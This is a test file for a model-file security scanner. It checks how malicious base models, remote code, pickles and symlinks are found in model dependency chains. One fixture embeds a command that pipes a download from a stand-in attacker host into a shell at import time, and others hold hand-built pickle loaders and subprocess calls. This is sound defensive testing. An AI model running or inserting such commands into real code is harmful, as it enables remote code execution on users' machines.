"""Finding, resolving and scanning model dependencies on realistic model folders."""

from __future__ import annotations

import json
from pathlib import Path

from modelshield import Policy, Report, scan
from modelshield.core.limits import Limits
from modelshield.core.rules import Severity
from tests.deps.conftest import (
    BERT_CONFIG,
    LLAMA_CONFIG,
    TOKENIZER_CONFIG,
    AddRepo,
    adapter_folder,
    bert_folder,
    llama_files,
    weights,
    write_json,
)
from tests.helpers import evil_pickle


def rules_at_least(report: Report, level: Severity) -> list[str]:
    return sorted(f"{f.rule_id} {f.location}" for f in report.findings if f.level >= level)


def only(report: Report, rule_id: str) -> list[str]:
    return [f.evidence for f in report.findings if f.rule_id == rule_id]


def test_plain_model_folder_has_no_finding_at_medium_or_above(tmp_path: Path, hub_cache: AddRepo) -> None:
    report = scan(bert_folder(tmp_path / "bert"))
    assert rules_at_least(report, Severity.MEDIUM) == []
    # The origin transformers records is a dependency (info), not needed to load: never "not scanned".
    [origin] = only(report, "DEP002")
    assert "origin bert-base-uncased" in origin
    assert only(report, "DEP003") == []
    assert report.exit_code == 0


def test_adapter_on_a_clean_cached_base(tmp_path: Path, hub_cache: AddRepo) -> None:
    snapshot = hub_cache("meta-llama/Llama-2-7b-hf", llama_files())
    weights(snapshot / "model.safetensors", **{"model.embed_tokens.weight": (4, 4)})
    report = scan(adapter_folder(tmp_path / "adapter", "meta-llama/Llama-2-7b-hf"))
    assert rules_at_least(report, Severity.MEDIUM) == []
    graph = report.dependencies
    assert graph is not None
    [base] = [n for n in graph.nodes if n.ref == "meta-llama/Llama-2-7b-hf"]
    assert base.resolution == "cached" and base.path == str(snapshot) and base.verdict is Severity.INFO
    assert [e.role for e in graph.edges if e.target == base.id] == ["base model"]
    assert any(r.path.startswith(str(snapshot)) for r in report.files)


def test_adapter_on_a_malicious_base_shows_the_chain(tmp_path: Path, hub_cache: AddRepo) -> None:
    hub_cache("evil-org/llama-7b-base", llama_files(evil=True))
    report = scan(adapter_folder(tmp_path / "adapter", "evil-org/llama-7b-base"))
    [chain] = only(report, "DEP004")
    assert chain.startswith("adapter_config.json -> base model evil-org/llama-7b-base -> pytorch_model.bin: ")
    assert "system" in chain
    [finding] = [f for f in report.findings if f.rule_id == "DEP004"]
    assert finding.level is Severity.CRITICAL and finding.location.path.endswith("adapter_config.json")
    assert report.exit_code == 1
    assert report.dependencies is not None
    root = report.dependencies.nodes[0]
    assert root.kind == "root" and root.verdict is Severity.CRITICAL


def test_revision_is_resolved_through_refs(tmp_path: Path, hub_cache: AddRepo) -> None:
    hub_cache("evil-org/llama-7b-base", llama_files(), revision="main")
    hub_cache("evil-org/llama-7b-base", llama_files(evil=True), revision="v2")
    clean = scan(adapter_folder(tmp_path / "a", "evil-org/llama-7b-base"))
    evil = scan(adapter_folder(tmp_path / "b", "evil-org/llama-7b-base", revision="v2"))
    assert only(clean, "DEP004") == []
    assert "base model evil-org/llama-7b-base@v2 -> pytorch_model.bin" in only(evil, "DEP004")[0]


def test_unresolvable_base_is_not_scanned(tmp_path: Path, hub_cache: AddRepo) -> None:
    folder = adapter_folder(tmp_path / "adapter", "nobody/missing-model")
    report = scan(folder)
    [finding] = [f for f in report.findings if f.rule_id == "DEP003"]
    assert finding.level is Severity.LOW and "not in the Hugging Face cache" in finding.evidence
    assert report.exit_code == 0
    strict = scan(folder, Policy(fail_on_unresolved_dependencies=True))
    assert [f.level for f in strict.findings if f.rule_id == "DEP003"] == [Severity.HIGH]
    assert strict.exit_code == 1


def test_trusted_models_are_not_followed(tmp_path: Path, hub_cache: AddRepo) -> None:
    hub_cache("evil-org/llama-7b-base", llama_files(evil=True))
    report = scan(
        adapter_folder(tmp_path / "adapter", "evil-org/llama-7b-base"), Policy(trusted_models=("evil-org/*",))
    )
    assert rules_at_least(report, Severity.LOW) == []
    assert report.dependencies is not None
    assert [n.resolution for n in report.dependencies.nodes] == ["root", "trusted"]


def test_local_cycle_terminates(tmp_path: Path) -> None:
    adapter_folder(tmp_path / "a", "../b")
    adapter_folder(tmp_path / "b", "../a")
    report = scan(tmp_path / "a")
    graph = report.dependencies
    assert graph is not None
    assert [(e.source, e.target, e.cycle) for e in graph.edges] == [("n0", "n1", False), ("n1", "n0", True)]
    assert rules_at_least(report, Severity.LOW) == []


def test_depth_bound(tmp_path: Path) -> None:
    for name, base in (("a", "../b"), ("b", "../c"), ("c", "../d")):
        adapter_folder(tmp_path / name, base)
    weights(tmp_path / "d" / "model.safetensors", w=(2,))
    policy = Policy(limits=Limits(max_dependency_depth=1))
    report = scan(tmp_path / "a", policy)
    [finding] = [f for f in report.findings if f.rule_id == "DEP003"]
    assert finding.level is Severity.MEDIUM and "beyond max-dependency-depth=1" in finding.evidence
    assert finding.location.path == str(tmp_path / "b" / "adapter_config.json")
    # a's link to b carries the medium finding found behind it
    assert "adapter_config.json -> base model ../b -> adapter_config.json: base model ../c" in only(report, "DEP004")[0]


def test_dependency_count_bound(tmp_path: Path) -> None:
    modules = [
        {"idx": i, "name": str(i), "path": f"m{i}", "type": "sentence_transformers.models.Dense"} for i in range(5)
    ]
    write_json(tmp_path / "st" / "modules.json", modules)
    for i in range(5):
        weights(tmp_path / "st" / f"m{i}" / "model.safetensors", w=(2,))
    report = scan(tmp_path / "st" / "modules.json", Policy(limits=Limits(max_dependencies=3)))
    not_scanned = only(report, "DEP003")
    assert len(not_scanned) == 2 and all("max-dependencies=3" in e for e in not_scanned)


def test_symlink_out_of_the_cache_is_not_followed(tmp_path: Path, hub_cache: AddRepo) -> None:
    snapshot = hub_cache("evil-org/llama-7b-base", llama_files())
    outside = tmp_path / "planted.bin"
    outside.write_bytes(evil_pickle())
    (snapshot / "pytorch_model.bin").symlink_to(outside)
    report = scan(adapter_folder(tmp_path / "adapter", "evil-org/llama-7b-base"))
    assert not any(r.path.endswith("pytorch_model.bin") for r in report.files)
    [evidence] = only(report, "DEP003")
    assert "link outside the Hugging Face cache" in evidence and str(outside) in evidence
    assert [f.level for f in report.findings if f.rule_id == "DEP003"] == [Severity.MEDIUM]


def test_snapshot_folder_linked_out_of_the_cache(tmp_path: Path, hub_cache: AddRepo) -> None:
    snapshot = hub_cache("evil-org/llama-7b-base", llama_files())
    elsewhere = tmp_path / "elsewhere"
    snapshot.rename(elsewhere)
    snapshot.symlink_to(elsewhere)
    report = scan(adapter_folder(tmp_path / "adapter", "evil-org/llama-7b-base"))
    [evidence] = only(report, "DEP003")
    assert "links outside the cache" in evidence


def test_pickle_that_only_loads_another_file(tmp_path: Path) -> None:
    # torch.load('other.pt'), assembled by hand: the only call in the pickle.
    name = b"other.pt"
    loader = b"\x80\x02ctorch\nload\nX" + len(name).to_bytes(4, "little") + name + b"\x85R."
    (tmp_path / "model.pkl").write_bytes(loader)
    (tmp_path / "other.pt").write_bytes(evil_pickle())
    report = scan(tmp_path / "model.pkl")
    [pkl007] = [f for f in report.findings if f.rule_id == "PKL007"]
    assert pkl007.details["dependency"] == {
        "kind": "path",
        "ref": "other.pt",
        "revision": None,
        "role": "torch.load",
        "files": [],
        "required": True,
    }
    [chain] = only(report, "DEP004")
    assert chain.startswith("model.pkl -> torch.load other.pt -> other.pt: ")
    assert [r.path for r in report.files] == [str(tmp_path / "model.pkl"), str(tmp_path / "other.pt")]


def test_follow_dependencies_off(tmp_path: Path, hub_cache: AddRepo) -> None:
    hub_cache("evil-org/llama-7b-base", llama_files(evil=True))
    report = scan(adapter_folder(tmp_path / "adapter", "evil-org/llama-7b-base"), follow_dependencies=False)
    assert report.dependencies is None and rules_at_least(report, Severity.LOW) == []


BENIGN_MODELING = """\
import math
import os

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig

_FLASH = os.environ.get("USE_FLASH", "0") == "1"


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        with open(os.path.join(os.path.dirname(__file__), "vocab.txt")) as handle:
            self.words = handle.read().split()

    def forward(self, x):
        return self.proj(x) / math.sqrt(x.shape[-1])
"""

BENIGN_CONFIGURATION = """\
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

EVIL_CONFIGURATION = """\
import os as _os
from transformers import PretrainedConfig

_os.system("curl -s attacker.example/x | sh")


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=8, **kwargs):
        __import__(kwargs.pop("helper", "json"))
        super().__init__(**kwargs)
"""

REMOTE_CONFIG = {
    "architectures": ["TinyModel"],
    "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"},
    "hidden_size": 8,
    "model_type": "tiny",
    "torch_dtype": "float32",
    "transformers_version": "4.44.2",
}


def remote_code_folder(folder: Path, configuration: str) -> Path:
    write_json(folder / "config.json", REMOTE_CONFIG)
    (folder / "modeling_tiny.py").write_text(BENIGN_MODELING)
    (folder / "configuration_tiny.py").write_text(configuration)
    weights(folder / "model.safetensors", **{"proj.weight": (8, 8)})
    return folder


def test_benign_remote_code_is_medium(tmp_path: Path) -> None:
    report = scan(remote_code_folder(tmp_path / "tiny", BENIGN_CONFIGURATION))
    assert rules_at_least(report, Severity.MEDIUM) == [f"DEP001 {tmp_path / 'tiny' / 'config.json'}"]
    [finding] = [f for f in report.findings if f.rule_id == "DEP001"]
    assert finding.level is Severity.MEDIUM
    assert "auto_map AutoModel -> modeling_tiny.TinyModel" in finding.evidence
    assert sorted(finding.details["analysed"]) == ["configuration_tiny.py", "modeling_tiny.py"]


def test_remote_code_running_a_command_at_import_is_critical(tmp_path: Path) -> None:
    report = scan(remote_code_folder(tmp_path / "tiny", EVIL_CONFIGURATION))
    [finding] = [f for f in report.findings if f.rule_id == "DEP001"]
    assert finding.level is Severity.CRITICAL
    assert 'configuration_tiny.py:4: _os.system("curl -s attacker.example/x | sh") at import time' in finding.evidence
    assert any(
        "configuration_tiny.py:11: __import__" in p and "in a constructor" in p for p in finding.details["problems"]
    )


def test_remote_code_from_another_repository(tmp_path: Path, hub_cache: AddRepo) -> None:
    hub_cache("evil-org/shared-code", {"configuration_tiny.py": EVIL_CONFIGURATION.encode()})
    config = {**REMOTE_CONFIG, "auto_map": {"AutoConfig": "evil-org/shared-code--configuration_tiny.TinyConfig"}}
    write_json(tmp_path / "m" / "config.json", config)
    report = scan(tmp_path / "m")
    [remote] = [f for f in report.findings if f.rule_id == "DEP001" and f.location.path.endswith("config.json")]
    assert remote.level is Severity.MEDIUM and "from evil-org/shared-code" in remote.evidence
    [chain] = [f for f in report.findings if f.rule_id == "DEP004"]
    assert chain.level is Severity.CRITICAL
    assert chain.evidence.startswith("config.json -> remote code evil-org/shared-code -> configuration_tiny.py: ")


def test_tokenizer_config_with_template_and_auto_map_is_one_analyser(tmp_path: Path) -> None:
    tokenizer = {
        **TOKENIZER_CONFIG,
        "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]},
        "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}",
    }
    write_json(tmp_path / "tokenizer_config.json", tokenizer)
    report = scan(tmp_path / "tokenizer_config.json")
    assert sorted(f.rule_id for f in report.findings) == ["DEP001"]
    assert "auto_map AutoTokenizer -> tokenization_tiny.TinyTokenizer" in report.findings[0].evidence


def sentence_transformers_folder(folder: Path, pooling_type: str = "sentence_transformers.models.Pooling") -> Path:
    bert_folder(folder)
    write_json(
        folder / "modules.json",
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": pooling_type},
            {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
        ],
    )
    write_json(folder / "1_Pooling" / "config.json", {"word_embedding_dimension": 32, "pooling_mode_mean_tokens": True})
    (folder / "2_Normalize").mkdir()
    write_json(folder / "sentence_bert_config.json", {"max_seq_length": 256, "do_lower_case": False})
    write_json(
        folder / "config_sentence_transformers.json",
        {"__version__": {"sentence_transformers": "3.0.1", "transformers": "4.44.2", "pytorch": "2.4.0"}},
    )
    return folder


def test_sentence_transformers_modules(tmp_path: Path) -> None:
    report = scan(sentence_transformers_folder(tmp_path / "st"))
    assert rules_at_least(report, Severity.MEDIUM) == []
    assert report.dependencies is not None
    assert sorted(e.role for e in report.dependencies.edges) == ["module", "module", "origin"]
    custom = scan(sentence_transformers_folder(tmp_path / "custom", "custom_pooling.MeanPooling"))
    assert "module 1 type -> custom_pooling.MeanPooling" in only(custom, "DEP001")[0]


def test_diffusers_pipeline(tmp_path: Path) -> None:
    folder = tmp_path / "sd"
    write_json(
        folder / "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "feature_extractor": ["transformers", "CLIPImageProcessor"],
            "requires_safety_checker": True,
            "safety_checker": [None, None],
            "scheduler": ["diffusers", "PNDMScheduler"],
            "text_encoder": ["transformers", "CLIPTextModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"],
            "unet": ["diffusers", "UNet2DConditionModel"],
            "vae": ["diffusers", "AutoencoderKL"],
        },
    )
    for component in ("unet", "vae"):
        write_json(folder / component / "config.json", {"_class_name": "X", "_diffusers_version": "0.30.0"})
        weights(folder / component / "diffusion_pytorch_model.safetensors", w=(2,))
    write_json(
        folder / "scheduler" / "scheduler_config.json", {"_class_name": "PNDMScheduler", "_diffusers_version": "0.30.0"}
    )
    write_json(folder / "text_encoder" / "config.json", {**BERT_CONFIG, "model_type": "clip_text_model"})
    (folder / "text_encoder" / "pytorch_model.bin").write_bytes(evil_pickle())
    (folder / "tokenizer").mkdir()
    (folder / "feature_extractor").mkdir()
    report = scan(folder / "model_index.json")
    roles = sorted(e.role for e in report.dependencies.edges if e.source == "n0") if report.dependencies else []
    assert roles == ["component"] * 6
    [chain] = only(report, "DEP004")
    assert chain.startswith("model_index.json -> component text_encoder -> pytorch_model.bin: ")


def test_custom_diffusers_component_code_is_analysed(tmp_path: Path) -> None:
    folder = tmp_path / "sd"
    write_json(
        folder / "model_index.json",
        {"_class_name": "MyPipeline", "_diffusers_version": "0.30.0", "unet": ["my_unet", "MyUNet"]},
    )
    (folder / "unet").mkdir()
    (folder / "unet" / "my_unet.py").write_text("import subprocess\nsubprocess.run(['id'])\nclass MyUNet: ...\n")
    report = scan(folder)
    [finding] = [f for f in report.findings if f.rule_id == "DEP001"]
    assert finding.level is Severity.CRITICAL and "unet/my_unet.py:2: subprocess.run(['id'])" in finding.evidence


def test_timm_pretrained_cfg_and_nested_origins(tmp_path: Path) -> None:
    timm = {
        "architecture": "resnet18",
        "num_classes": 1000,
        "num_features": 512,
        "pretrained_cfg": {"hf_hub_id": "timm/resnet18.a1_in1k", "tag": "a1_in1k", "custom_load": False},
    }
    write_json(tmp_path / "timm" / "config.json", timm)
    nested = {
        **LLAMA_CONFIG,
        "model_type": "llava",
        "text_config": {"_name_or_path": "lmsys/vicuna-7b-v1.5", "model_type": "llama"},
    }
    write_json(tmp_path / "llava" / "config.json", nested)
    report = scan([tmp_path / "timm", tmp_path / "llava"])
    evidence = only(report, "DEP002")
    assert any("pretrained weights timm/resnet18.a1_in1k (hub)" in e for e in evidence)
    assert any("text_config origin lmsys/vicuna-7b-v1.5 (hub)" in e for e in evidence)
    assert rules_at_least(report, Severity.LOW) == []


def test_tfsmlayer_dependency_is_normalised(tmp_path: Path) -> None:
    layer = {
        "class_name": "TFSMLayer",
        "config": {"name": "t", "filepath": "saved", "call_endpoint": "serve"},
        "module": "keras.layers",
        "registered_name": None,
    }
    config = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [layer]},
        "module": "keras",
        "registered_name": None,
    }
    write_json(tmp_path / "config.json", config)
    report = scan(tmp_path / "config.json")
    [krs] = [f for f in report.findings if f.rule_id == "KRS006"]
    assert krs.details["dependency"]["kind"] == "path" and krs.details["dependency"]["ref"] == "saved"
    assert "no such file or folder" in only(report, "DEP003")[0]
    assert json.loads(json.dumps(krs.details))  # plain data for the JSON report


def test_origin_naming_a_folder_that_is_not_a_model_is_not_walked(tmp_path: Path) -> None:
    (tmp_path / "home" / "notes").mkdir(parents=True)
    (tmp_path / "home" / "notes" / "evil.pkl").write_bytes(evil_pickle())
    write_json(tmp_path / "m" / "config.json", {**BERT_CONFIG, "_name_or_path": str(tmp_path / "home")})
    report = scan(tmp_path / "m")
    assert report.dependencies is not None
    assert [n.resolution for n in report.dependencies.nodes] == ["root", "not followed"]
    assert rules_at_least(report, Severity.LOW) == []
